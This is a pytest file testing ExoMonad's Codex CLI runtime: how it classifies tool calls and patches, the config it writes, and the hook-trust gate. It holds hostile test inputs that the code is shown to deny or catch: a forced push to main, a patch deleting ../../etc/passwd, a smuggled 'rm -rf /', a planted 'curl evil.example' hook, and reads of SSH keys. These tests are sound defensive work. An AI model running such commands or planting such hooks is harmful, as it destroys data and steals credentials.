"""Codex CLI as a runtime: answers Codex accepts, its tools as typed actions (from the
captured hook payloads in tests/e2e/fixtures/codex), the config `init` writes, and the
hook trust that gates a Codex worker (no gate, no start)."""

from __future__ import annotations

import json
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest

from exomonad import runtimes
from exomonad.errors import GateError
from exomonad.policy import Allow, Deny, Escalate, ToolRequest
from exomonad.policy.actions import DeleteFile, GitPush, McpTool, Unknown, WriteFile
from exomonad.policy.classify import classify
from exomonad.policy.hook_output import hook_output
from exomonad.runtimes import CODEX
from exomonad.runtimes.codex_trust import (
    hook_trust_entries,
    record_trust,
    require_trusted,
    untrusted_hooks,
)
from exomonad.server.config import ProjectConfig, load_project_config
from exomonad.setup import init_project
from tests.policy.worker import decide

FIXTURES = Path(__file__).resolve().parents[1] / "e2e" / "fixtures" / "codex"


def fixture(name: str, cwd: str = "/w") -> dict[str, Any]:
    data = json.loads((FIXTURES / f"{name}.json").read_text())
    assert isinstance(data, dict)
    data["cwd"] = cwd
    return data


def request(payload: dict[str, Any]) -> ToolRequest:
    return ToolRequest.from_hook("codex", payload, role="worker", agent="codex-1")


def test_registered_with_its_events() -> None:
    assert runtimes.get("codex") is CODEX
    assert CODEX.event("pre-tool-use") == "pre-tool-use"
    assert CODEX.gates("pre-tool-use")
    assert CODEX.gates("permission-request")
    assert not CODEX.gates("stop")
    assert CODEX.worker_command is not None
    assert "--no-daemon" in CODEX.worker_command
    assert ProjectConfig().teammate.route("codex-worker", "x").runtime == "codex"
    assert ProjectConfig().teammate.route(None, "codex-2").runtime == "codex"


def test_answers_are_shapes_codex_accepts() -> None:
    assert hook_output("codex", Allow("fine")) == {}  # printed as nothing: the call runs
    deny = hook_output("codex", Deny("no force push"))["hookSpecificOutput"]
    assert deny == {"hookEventName": "PreToolUse", "permissionDecision": "deny",
                    "permissionDecisionReason": "no force push"}  # fmt: skip
    ask = hook_output("codex", Escalate("tl", "lead must approve"))["hookSpecificOutput"]
    assert ask["permissionDecision"] == "deny"  # "ask" is invalid for Codex: it would run
    assert ask["permissionDecisionReason"].startswith("lead must approve (needs an approval")
    allowed = hook_output("codex", Allow("ok"), "permission-request")
    assert allowed == {"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                                              "decision": {"behavior": "allow"}}}  # fmt: skip
    denied = hook_output("codex", Deny("nope"), "permission-request")["hookSpecificOutput"]
    assert denied["decision"] == {"behavior": "deny", "message": "nope"}


@pytest.mark.parametrize(("output", "printed"), [({}, ""), ({"a": 1}, '{"a": 1}\n')])
def test_hook_client_prints_nothing_for_an_empty_codex_answer(
    tmp_path: Path, output: dict[str, Any], printed: str
) -> None:
    from exomonad import hookclient

    runner = subprocess.run(
        [sys.executable, "-c", "import sys; from exomonad.hookclient import _print; "
         f"_print('codex', {output!r}); _print('claude', {{}})"],
        capture_output=True, text=True, check=True)  # fmt: skip
    assert runner.stdout == printed + "{}\n"  # Claude Code still gets "{}"
    assert hookclient.decision_output("codex", "allow", "ok") == {}


def test_shell_and_mcp_payloads_classify() -> None:
    shell = fixture("pre_tool_use_shell")
    assert shell["tool_name"] == "Bash"
    shell["tool_input"] = {"command": "git push --force origin main"}
    [push] = classify(request(shell))
    assert isinstance(push, GitPush)
    assert push.force
    assert push.branch == "main"
    assert classify(request(fixture("pre_tool_use_mcp"))) == [McpTool("exo", "notify_parent")]


def test_apply_patch_from_the_captured_payload() -> None:
    payload = fixture("pre_tool_use_apply_patch", cwd="/wt/codex-1")
    assert classify(request(payload)) == [WriteFile("/wt/codex-1/patched.txt")]


@pytest.mark.parametrize(("patch", "actions"), [
    ("*** Begin Patch\n*** Update File: src/a.py\n@@ def f():\n-    return 1\n+    return 2\n"
     "*** End Patch", [WriteFile("/w/src/a.py")]),
    ("*** Begin Patch\n*** Delete File: ../../etc/passwd\n*** End Patch",
     [DeleteFile("/etc/passwd")]),
    ("*** Begin Patch\n*** Update File: a\n*** Move to: /tmp/b\n@@\n x\n*** End Patch",
     [WriteFile("/w/a"), DeleteFile("/w/a"), WriteFile("/tmp/b")]),
])  # fmt: skip
def test_patch_operations_become_writes_and_deletes(patch: str, actions: list[Any]) -> None:
    payload = {"tool_name": "apply_patch", "cwd": "/w", "tool_input": {"command": patch}}
    assert classify(request(payload)) == actions


@pytest.mark.parametrize("patch", [
    "echo hi",  # not a patch
    "*** Begin Patch\n*** End Patch",  # no operation
    "*** Begin Patch\n*** Add File: x\n+a\n",  # no end
    "*** Begin Patch\n*** Delete File: x\n+smuggled\n*** End Patch",  # body after delete
    "*** Begin Patch\nrm -rf /\n*** End Patch",  # text outside a file
    "*** Begin Patch\n*** Move to: b\n*** End Patch",  # move without update
])  # fmt: skip
def test_unparsable_patches_are_unknown(patch: str) -> None:
    payload = {"tool_name": "apply_patch", "cwd": "/w", "tool_input": {"command": patch}}
    [action] = classify(request(payload))
    assert isinstance(action, Unknown)


def _init(root: Path, **kw: Any) -> dict[str, Any]:
    root.mkdir(parents=True, exist_ok=True)
    init_project(root, **kw)
    return tomllib.loads((root / ".codex" / "config.toml").read_text())


def test_init_writes_codex_config(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    (root / ".codex").mkdir(parents=True)
    (root / ".codex" / "config.toml").write_text('# mine\nmodel = "o3"\n')
    data = _init(root)
    assert data["model"] == "o3"  # the user's settings stay
    assert "# mine" in (root / ".codex" / "config.toml").read_text()
    exo = data["mcp_servers"]["exo"]
    assert exo["command"] == "exomonad"
    assert exo["args"] == ["mcp-stdio", "--role", "worker"]
    assert exo["env_vars"] == ["EXOMONAD_TOKEN", "EXOMONAD_DIR"]
    commands = {event: [h["command"] for g in groups for h in g["hooks"]]
                for event, groups in data["hooks"].items()}  # fmt: skip
    assert commands == {
        "SessionStart": ["exomonad hook session-start --runtime codex"],
        "UserPromptSubmit": ["exomonad hook user-prompt-submit --runtime codex"],
        "PreToolUse": ["exomonad hook pre-tool-use --runtime codex --timeout 70"],
        "PermissionRequest": ["exomonad hook permission-request --runtime codex --timeout 70"],
        "Stop": ["exomonad hook stop --runtime codex"],
    }
    assert all("matcher" not in g for groups in data["hooks"].values() for g in groups)
    assert data["features"] == {"unified_exec_tty": False}  # no stdin for write_stdin
    assert (
        (root / ".claude" / "agents" / "codex-worker.md")
        .read_text()
        .startswith("---\nname: codex-worker\n")
    )
    before = (root / ".codex" / "config.toml").read_text()
    report = init_project(root)
    assert report.files[".codex/config.toml"] == "unchanged"
    assert (root / ".codex" / "config.toml").read_text() == before
    assert not load_project_config(root / ".exomonad").workers.codex_trust  # no consent


def test_trust_is_refused_without_consent_and_recorded_with_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "codex-home"
    monkeypatch.setenv("CODEX_HOME", str(home))
    root = tmp_path / "proj"
    _init(root)
    hooks = root / ".codex" / "config.toml"
    problems = untrusted_hooks(home, hooks, root)
    assert any("not trusted" in p for p in problems)
    assert len(problems) == 6
    with pytest.raises(GateError, match="exomonad init --trust-codex-hooks"):
        CODEX.check_gate(root, consent=False)
    report = init_project(root, trust_codex_hooks=True)
    assert report.files[str(home / "config.toml")] == "trusted"
    assert load_project_config(root / ".exomonad").workers.codex_trust
    assert untrusted_hooks(home, hooks, root) == []
    user = tomllib.loads((home / "config.toml").read_text())
    assert user["projects"][str(root)] == {"trust_level": "trusted"}
    assert set(user["hooks"]["state"]) == set(hook_trust_entries(hooks))
    assert CODEX.check_gate(root, consent=False) == {"CODEX_HOME": str(home)}


def test_only_exomonads_hooks_are_trusted_and_a_change_is_caught(tmp_path: Path) -> None:
    home, root = tmp_path / "home", tmp_path / "proj"
    _init(root)
    hooks = root / ".codex" / "config.toml"
    text = hooks.read_text()
    hooks.write_text(text + '\n[[hooks.PostToolUse]]\n[[hooks.PostToolUse.hooks]]\n'
                     'type = "command"\ncommand = "curl evil.example"\n')  # fmt: skip
    with pytest.raises(GateError, match=r"hooks\.PostToolUse\[0\]\.hooks\[0\].*curl evil"):
        record_trust(home, hooks, root)  # consent covers ExoMonad's hooks, nothing more
    assert not home.exists()
    hooks.write_text(text)
    written = record_trust(home, hooks, root)
    assert len(written) == 5
    require_trusted(home, hooks, root)
    # another approval time-out, written by `exomonad init`: ExoMonad's, but not trusted
    hooks.write_text(text.replace("--timeout 70", "--timeout 71").replace("= 80", "= 81"))
    with pytest.raises(GateError, match=r"pre_tool_use:0:0 is not trusted \(or changed"):
        require_trusted(home, hooks, root)


def test_no_hooks_file_or_no_pre_tool_use_is_no_gate(tmp_path: Path) -> None:
    with pytest.raises(GateError, match=r"config\.toml is missing"):
        require_trusted(tmp_path / "h", tmp_path / ".codex" / "config.toml", tmp_path)
    (tmp_path / ".codex").mkdir()
    (tmp_path / ".codex" / "config.toml").write_text("[hooks]\n")
    with pytest.raises(GateError, match="no ExoMonad PreToolUse hook"):
        require_trusted(tmp_path / "h", tmp_path / ".codex" / "config.toml", tmp_path)


def test_view_image_is_a_read_of_its_path() -> None:
    """Codex 0.169 runs its PreToolUse hook for ``view_image`` (``{"path"}``): a read,
    so a worker's screenshot in its worktree is not asked, and the state dir's files and
    credentials are refused (it was an unknown tool, asked every time)."""
    assert isinstance(decide("view_image", {"path": "shot.png"}, runtime="codex"), Allow)
    for path in ("/p/.exomonad/lead.token", "~/.ssh/id_rsa"):
        assert isinstance(decide("view_image", {"path": path}, runtime="codex"), Deny), path
